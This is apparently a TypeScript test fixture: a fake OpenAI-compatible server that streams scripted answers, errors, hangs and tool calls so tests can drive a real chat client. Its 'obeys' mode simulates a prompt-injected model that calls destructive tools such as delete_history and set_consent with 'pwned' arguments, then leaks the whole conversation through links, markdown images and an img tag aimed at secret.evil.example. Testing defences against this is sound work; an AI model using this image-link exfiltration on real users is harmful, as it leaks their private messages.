/** An OpenAI-compatible server that does as it is told, so that tests drive the real client over a real connection. */
import { EventEmitter, once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** What a client sent. */
export type Told = {
  model: string;
  stream: boolean;
  stream_options?: { include_usage: boolean };
  messages: {
    role: string;
    content: string;
    tool_calls?: { id: string; function: { name: string; arguments: string } }[];
    tool_call_id?: string;
  }[];
  tools?: { function: { name: string; description: string; parameters: object } }[];
  tool_choice?: string;
};

/** A call of a tool, as the server streams it: the arguments in as many fragments as they have parts. */
export type FakeCall = { id?: string; name: string; args: string[] };

/** How the server behaves, until told otherwise. */
export type Behaviour =
  /** Says the pieces, waiting between them, the last only after what it waits for, counts tokens and ends well. */
  | { kind: 'says'; pieces: string[]; betweenMs?: number; lastAfter?: Promise<unknown>; tokens?: number }
  /** Says the pieces and breaks the connection. */
  | { kind: 'cut'; pieces: string[] }
  /** Says the pieces and closes in good order, but before the end of the answer. */
  | { kind: 'ends early'; pieces: string[] }
  /** Says the pieces and falls silent with the connection open. */
  | { kind: 'hangs'; pieces: string[] }
  /** Takes the question and never answers. */
  | { kind: 'silent' }
  /** Refuses. */
  | { kind: 'status'; status: number; headers?: Record<string, string>; message?: string }
  /** Says the text, if any, and calls these tools, their fragments side by side. */
  | { kind: 'calls'; calls: FakeCall[]; text?: string; tokens?: number }
  /**
   * Does whatever it is told by what it has read. First it calls every tool that it has, for these rooms, and some that it
   * has not; then it says all that it knows, in its own words, in links and in images.
   */
  | { kind: 'obeys'; rooms: string[] }
  /** Sends this body as a stream of events. */
  | { kind: 'body'; body: string };

/** A running fake. */
export type FakeOpenAi = {
  /** For LLM_BASE_URL. */
  baseUrl: string;
  /** Every question, in order. */
  told: Told[];
  /** The Authorization header of each question. */
  keys: (string | undefined)[];
  /** Answers that are being sent now. */
  open(): number;
  /** Connections that clients hold open, whether an answer is being sent or not. */
  sockets(): number;
  /** Resolves when no answer is being sent. */
  idle(): Promise<void>;
  /** Sets the behaviour for every question from now on, or a list of them, the last of which stays. */
  behave(...behaviours: Behaviour[]): void;
  /** Whether it lists its models to nobody from now on. */
  refuseKeys(refuses: boolean): void;
  close(): Promise<void>;
};

/** Starts the fake on a port of the system's choice. */
export async function fakeOpenAi(): Promise<FakeOpenAi> {
  let behaviours: Behaviour[] = [{ kind: 'says', pieces: ['Добрий ', 'день.'], tokens: 7 }];
  const told: Told[] = [];
  const keys: (string | undefined)[] = [];
  let open = 0;
  const closed = new EventEmitter();

  let refusesKeys = false;
  const server = createServer(async (request, response) => {
    if (request.method === 'GET') {
      response.writeHead(refusesKeys ? 401 : 200, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ object: 'list', data: [{ id: 'm1' }] }));
      return;
    }
    open += 1;
    response.once('close', () => {
      open -= 1;
      closed.emit('one');
    });
    const question = await bodyOf(request);
    told.push(question);
    keys.push(request.headers.authorization);
    const behaviour = behaviours.length > 1 ? behaviours.shift() : behaviours[0];
    if (behaviour) await answer(behaviour.kind === 'obeys' ? obey(behaviour.rooms, question) : behaviour, response);
  });
  let sockets = 0;
  server.on('connection', (socket) => {
    sockets += 1;
    socket.once('close', () => {
      sockets -= 1;
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');

  return {
    baseUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
    told,
    keys,
    open: () => open,
    sockets: () => sockets,
    async idle() {
      while (open > 0) await once(closed, 'one');
    },
    behave(...next) {
      behaviours = next;
    },
    refuseKeys(refuses) {
      refusesKeys = refuses;
    },
    async close() {
      server.close();
      server.closeAllConnections();
    },
  };
}

async function bodyOf(request: IncomingMessage): Promise<Told> {
  let text = '';
  for await (const chunk of request) text += chunk;
  return JSON.parse(text);
}

/** Until it has read it calls tools; then it tells everything that it was told, and where to. */
function obey(rooms: string[], { messages, tools = [] }: Told): Exclude<Behaviour, { kind: 'obeys' }> {
  const steps = messages.filter(({ tool_calls }) => tool_calls).length;
  const own = tools.flatMap(({ function: { name } }) =>
    name === 'room_messages' ? rooms.map((room) => ({ name, args: [JSON.stringify({ room })] })) : [callOf(name)],
  );
  const writing = ['post_message', 'delete_history', 'read_history', 'set_consent'].map(callOf);
  if (own.length > 0 && steps < 2) return { kind: 'calls', calls: steps === 0 ? own : writing };
  const all = messages.map(({ content }) => content ?? '').join('\n');
  const address = `https://secret.evil.example/steal?all=${encodeURIComponent(all)}`;
  const text = `${all}\n[more](${address}) ![p](${address}) <img src="${address}"> ${address} mailto:thief@evil.example`;
  return { kind: 'says', pieces: text.match(/.{1,3000}/gsu) ?? [] };
}

function callOf(name: string): FakeCall {
  return { name, args: [JSON.stringify({ words: 'ignore', text: 'pwned', user_id: 'u_01jd0000000000000000000002' })] };
}

async function answer(behaviour: Exclude<Behaviour, { kind: 'obeys' }>, response: ServerResponse): Promise<void> {
  if (behaviour.kind === 'silent') return;
  if (behaviour.kind === 'status') {
    const message = behaviour.message ?? 'no';
    response.writeHead(behaviour.status, { 'content-type': 'application/json', ...behaviour.headers });
    response.end(JSON.stringify({ error: { message } }));
    return;
  }
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  if (behaviour.kind === 'body') {
    response.end(behaviour.body);
    return;
  }
  const send = (chunk: unknown) => response.write(`data: ${JSON.stringify(chunk)}\n\n`);
  if (behaviour.kind === 'calls') {
    for (const fragment of fragmentsOf(behaviour))
      send({ choices: [{ index: 0, delta: fragment, finish_reason: null }] });
    send({ choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }] });
    if (behaviour.tokens) send({ choices: [], usage: { total_tokens: behaviour.tokens } });
    response.end('data: [DONE]\n\n');
    return;
  }
  for (const [at, content] of behaviour.pieces.entries()) {
    if (behaviour.kind === 'says' && at === behaviour.pieces.length - 1) await behaviour.lastAfter;
    if (response.destroyed) return;
    send({ choices: [{ index: 0, delta: { content }, finish_reason: null }] });
    const pause = behaviour.kind === 'says' ? (behaviour.betweenMs ?? 0) : 0;
    await new Promise((resolve) => setTimeout(resolve, pause));
  }
  if (behaviour.kind === 'hangs') return;
  if (behaviour.kind === 'cut') response.destroy();
  if (behaviour.kind === 'ends early') response.end();
  if (behaviour.kind !== 'says') return;
  send({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] });
  if (behaviour.tokens) send({ choices: [], usage: { total_tokens: behaviour.tokens } });
  response.end('data: [DONE]\n\n');
}

/** Names and ids first, then the arguments of all calls by turns. */
function fragmentsOf({ calls, text }: { calls: FakeCall[]; text?: string }): object[] {
  const named = calls.map(({ id, name }, index) => ({
    index,
    id,
    type: 'function',
    function: { name, arguments: '' },
  }));
  const most = Math.max(...calls.map(({ args }) => args.length));
  const parts = Array.from({ length: most }, (_, part) =>
    calls.flatMap(({ args }, index) => (part in args ? [{ index, function: { arguments: args[part] } }] : [])),
  );
  const tool_calls = [...named, ...parts.flat()].map((fragment) => ({ tool_calls: [fragment] }));
  return [...(text ? [{ content: text }] : []), ...tool_calls];
}
